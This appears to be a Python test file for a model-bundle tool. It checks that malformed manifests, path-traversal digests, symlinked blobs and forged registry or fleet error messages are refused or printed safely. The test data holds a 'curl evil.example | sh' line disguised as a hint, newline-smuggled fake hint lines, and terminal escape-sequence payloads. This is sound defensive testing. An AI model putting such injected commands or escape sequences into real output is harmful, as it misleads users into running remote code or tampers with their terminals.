"""Documents and texts made to confuse a reader: each is refused with its code, or is shown on lines of its own."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from coldstart.artifacts import canonical, oci
from coldstart.artifacts.blobs import blob_path
from coldstart.artifacts.bundle import accept_any
from coldstart.artifacts.errors import BundleError, TooLargeError
from coldstart.artifacts.key import Key
from coldstart.artifacts.limits import LIMITS
from coldstart.artifacts.store import Store
from coldstart.commands import cli
from coldstart.commands._output import Output, escape_line, format_table, print_error
from tools.bundles import config, forge, key, plant, publish
from tools.command_line import Run
from tools.raw_server import answer, answering, say

from coldstart.errors import CommandFailedError
from coldstart.system.paths import Cache
from coldstart.validate.checks import check

_LAYER = {
    "mediaType": "application/vnd.coldstart.section.kv.v1+json",
    "digest": f"sha256:{'0' * 64}",
    "size": 1,
}


def _layers(*layers: object) -> Callable[[bytes], bytes]:
    return lambda data: canonical.serialize(json.loads(data) | {"layers": layers})


def _config(**changes: object) -> bytes:
    return json.dumps(config(**changes)).encode()


def _nested(depth: int) -> bytes:
    return b'{"format_version":"1.0","key":' + b"[" * depth + b"]" * depth + b"}"


CONFIGS = {
    "not json": (b"{", "CS-JSON"),
    "not utf-8": (b'{"format_version":"\xff"}', "CS-JSON"),
    "nan": (b'{"format_version":NaN}', "CS-JSON"),
    "deep": (_nested(100), "CS-MANIFEST"),
    "very deep": (_nested(1_900_000), "CS-JSON"),
    "too large": (b'{"x":"' + b"x" * LIMITS.config_bytes + b'"}', "CS-SIZE"),
    "newer": (_config(format_version="2.0"), "CS-FORMAT-NEW"),
    "older": (_config(format_version="0.9"), "CS-MANIFEST"),
    "no version": (_config(format_version="one"), "CS-MANIFEST"),
    "an array": (b"[]", "CS-MANIFEST"),
    "a key that is a path": (_config(key={"model.name": "/etc/passwd"}), "CS-KEY"),
    "a key with a container": (_config(key={"model.name": ["x"]}), "CS-KEY"),
    "a model name that climbs": (
        _config(provenance={**config()["provenance"], "model_name": "../x"}),  # type: ignore[dict-item]
        "CS-MANIFEST",
    ),
}


MANIFESTS = {
    "schema 1": (lambda data: data.replace(b'"schemaVersion":2', b'"schemaVersion":1'), "CS-MANIFEST"),
    "config digest": (lambda data: data.replace(b'"digest":"sha256:', b'"digest":"sha256:/'), "CS-MANIFEST"),
    "another artifact": (lambda data: data.replace(b"coldstart.bundle", b"example.bundle"), "CS-MANIFEST"),
    "too large manifest": (lambda data: data + b" " * LIMITS.manifest_bytes, "CS-SIZE"),
    "a type twice": (_layers(_LAYER, _LAYER), "CS-SECTION-TABLE"),
    "too many sections": (_layers(*[_LAYER] * 65), "CS-SIZE"),
    "a digest that is a path": (_layers(_LAYER | {"digest": "sha256:../../x"}), "CS-MANIFEST"),
    "a negative size": (_layers(_LAYER | {"size": -1}), "CS-MANIFEST"),
    "a size past the cap": (_layers(_LAYER | {"size": 1 << 60}), "CS-SIZE"),
    "a boolean size": (_layers(_LAYER | {"size": True}), "CS-MANIFEST"),
}


@pytest.mark.parametrize("name", [*CONFIGS, *MANIFESTS])
def test_document_refused_with_its_code(name: str, store: Store) -> None:
    data, code = CONFIGS.get(name, (_config(), ""))
    change, code = MANIFESTS.get(name, (bytes, code))
    bundle = plant(store, data, change)
    with pytest.raises(BundleError) as caught:
        _ = bundle.manifest
    assert caught.value.code == code
    assert [finding.code for finding in check(bundle, "manifest")] == [code]


def test_tree_passed_off_as_another_media_type(store: Store, tmp_path: Path) -> None:
    bundle = forge(store, b"x", "compile", media_type="application/vnd.coldstart.section.compile.v1+json")
    with pytest.raises(BundleError, match="CS-SECTION-UNSUPPORTED: "):
        bundle.extract_section("compile", tmp_path / "out", trust=accept_any)


def test_blob_that_is_a_link(store: Store, tmp_path: Path) -> None:
    bundle = publish(store, tmp_path)
    path = blob_path(store.root, bundle.find_readable_section("kv").digest)
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(BundleError, match="CS-LINK: "):
        bundle.read_json("kv")


def test_layer_that_is_no_section_is_reported_and_not_read(store: Store) -> None:
    layer = _LAYER | {"mediaType": "application/vnd.oci.image.layer.v1.tar"}
    bundle = plant(store, canonical.serialize(config()), _layers(layer))
    assert [finding.code for finding in check(bundle, "manifest")] == ["CS-SECTION-UNKNOWN"]
    assert [(one.section_type, one.section_version) for one in bundle.manifest.sections] == [
        (layer["mediaType"], 0)
    ]


def test_index_too_large(store: Store, tmp_path: Path) -> None:
    publish(store, tmp_path)
    with (store.root / oci.INDEX_FILE).open("ab") as file:
        file.truncate(LIMITS.index_bytes + 1)
    with pytest.raises(TooLargeError):
        store.list_bundles()


def test_index_digest_that_climbs(store: Store, tmp_path: Path) -> None:
    publish(store, tmp_path)
    index = store.root / oci.INDEX_FILE
    index.write_text(index.read_text().replace('"digest":"sha256:', '"digest":"sha256:../'))
    with pytest.raises(BundleError) as caught:
        store.list_bundles()
    assert caught.value.code == "CS-MANIFEST" and "$.manifests[0].digest" in caught.value.message


def test_index_that_names_another_key(store: Store, tmp_path: Path) -> None:
    bundle = publish(store, tmp_path)
    index = store.root / oci.INDEX_FILE
    index.write_text(index.read_text().replace(bundle.key.digest, f"sha256:{'1' * 64}"))
    assert [finding.code for finding in check(store.list_bundles()[0], "manifest")] == ["CS-INDEX"]
    with pytest.raises(BundleError, match="CS-INDEX: "):
        store.list_bundles()[0].read_json("kv")


FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"


def test_registry_error_appears_on_one_line(run: Run) -> None:
    body = json.dumps({"errors": [{"code": "DENIED", "message": FORGED}]}).encode()
    for status in (401, 403, 500):
        with answering(lambda c, _, status=status: answer(c, status, {}, body)) as server:  # type: ignore[misc]
            done = run("pull", f"oci://{server.address}/a/b", code=None)
        lines = [line for line in done.stderr.splitlines() if "evil.example" in line]
        assert done.returncode != 0 and all(line.startswith("error: ") for line in lines)
        assert [line.partition(":")[0] for line in done.stderr.splitlines()].count("hint") == 1


def test_fleet_error_and_hint_appear_on_one_line_each(run: Run) -> None:
    with answering(lambda c, _: say(c, {"error": {"message": FORGED, "hint": FORGED}}, 400)) as server:
        done = run("fleet", "status", "--url", server.url, code=1)
    assert done.stderr == f"error: the fleet refused the request: {SHOWN}\nhint: {SHOWN}\n"


def test_fleet_status_has_a_line_for_each_server_only(run: Run) -> None:
    counts = dict.fromkeys(("pid", "uptime_s", "requests", "held", "in_flight", "readmitted"), 0)
    gateway = {"url": FORGED, "refused": {}, **counts}
    model = {"name": FORGED, "least": 0, "most": 1, "waiting": 0, "error": FORGED, "groups": []}
    found = {"gateway": gateway, "servers": [], "unusable": {FORGED: FORGED}, "models": [model]}
    with answering(lambda c, _: say(c, found)) as server:
        assert len(run("fleet", "status", "--url", server.url).stdout.splitlines()) == 3


def test_lines_of_our_own_keep_their_form(capsys: pytest.CaptureFixture[str]) -> None:
    cli._report_error(
        CommandFailedError(
            ["It ended. Its log:", "ValueError: x", "hint: evil", "a\nb"], hint="coldstart doctor"
        )
    )
    assert capsys.readouterr().err == (
        "error: It ended. Its log:\n  ValueError: x\n  hint: evil\n  a\\nb\nhint: coldstart doctor\n"
    )


def test_notes_warnings_and_cells_stay_on_their_lines(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output(verbose=True)
    for write in (out.print_note, out.warn, out.print_details):
        write(FORGED)
    out.print_success(FORGED, where=FORGED, then=FORGED)
    print_error([FORGED], FORGED)
    assert len(capsys.readouterr().err.splitlines()) == 6
    assert len(format_table(("a",), [(FORGED,)]).splitlines()) == 2
    assert escape_line(FORGED) == SHOWN


# Window title, colours, cursor movement, C1 controls, right-to-left override, bell.
EVIL = "\x1b]0;owned\x07\x1b[31m\x1b[2A\x9b31m\u202eevil\u2066\x08\x7f\u200b"
BAD = ["\x1b", "\x07", "\x08", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b"]


def _clean(text: str) -> None:
    found = [character for character in BAD if character in text]
    assert not found, found


def test_registry_error_is_shown_without_escapes(run: Run) -> None:
    body = EVIL.encode()
    with answering(lambda c, _: answer(c, 500, {}, body)) as server:
        done = run("pull", f"oci://{server.address}/a/b", code=2)
    _clean(done.stderr)
    assert "500" in done.stderr and "\\x1b]0;owned" in done.stderr


@pytest.mark.parametrize("command", [("list",), ("inspect", "org/tiny"), ("inspect", "org/tiny", "--key")])
def test_key_is_shown_without_escapes(command: tuple[str, ...], run: Run, home: Path) -> None:
    wanted = Key(dict(key().fields) | {"engine.note": EVIL})
    publish(Store(Cache.at().bundles), home / "s", wanted)
    done = run(*command, code=None)
    _clean(done.stdout + done.stderr)
    if "--key" in command:
        assert "\\x1b]0;owned" in done.stdout
    as_json = run(*command, "--format=json", code=None).stdout
    _clean(as_json)
    json.loads(as_json)


def test_escape_control_characters_keeps_harmless_text() -> None:
    from coldstart.commands._output import escape_control_characters

    assert escape_control_characters("naïve 模型 → 1 µs\n\ttab") == "naïve 模型 → 1 µs\n\ttab"
    assert escape_control_characters("\ud800") == "\\ud800"
